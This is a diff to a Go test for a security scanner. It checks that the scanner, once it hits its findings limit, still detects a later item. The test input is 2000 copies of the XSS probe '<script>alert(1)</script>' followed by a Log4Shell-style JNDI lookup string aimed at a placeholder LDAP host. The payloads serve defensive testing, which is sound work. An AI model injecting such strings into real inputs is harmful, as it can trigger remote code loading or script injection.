@@ -254,11 +254,15 @@ func TestFinding(t *testing.T) {
 
 // TestLimits holds that what a limit kept the engine from looking at is a gap. TestItemWork has the limit of work.
 func TestLimits(t *testing.T) {
-	many := `["` + strings.Repeat(`<script>alert(1)</script>","`, 2000) + `"]`
+	many := `["` + strings.Repeat(`<script>alert(1)</script>","`, 2000) + `${jndi:ldap://a.example/x}"]`
 	found, err := builtin(t).Scan(t.Context(), document([]byte(many), "application/json"))
 	var gap *scan.Gap
-	if !errors.As(err, &gap) || gap.Reason != scan.ReasonLimit || gap.Limit != "findings" || len(found) == 0 {
+	if !errors.As(err, &gap) || gap.Reason != scan.ReasonLimit || gap.Limit != scan.LimitFindings || len(found) < 1000 {
 		t.Errorf("%d findings, error %v", len(found), err)
+	}
+	// What comes after the limit is looked at, and the rules that have no finding yet are reported.
+	if last := found[len(found)-1]; len(found) > 1005 || last.Class != "jndi" {
+		t.Errorf("%d findings, the last is %+v", len(found), last)
 	}
 	ctx, cancel := context.WithCancel(t.Context())
 	cancel()
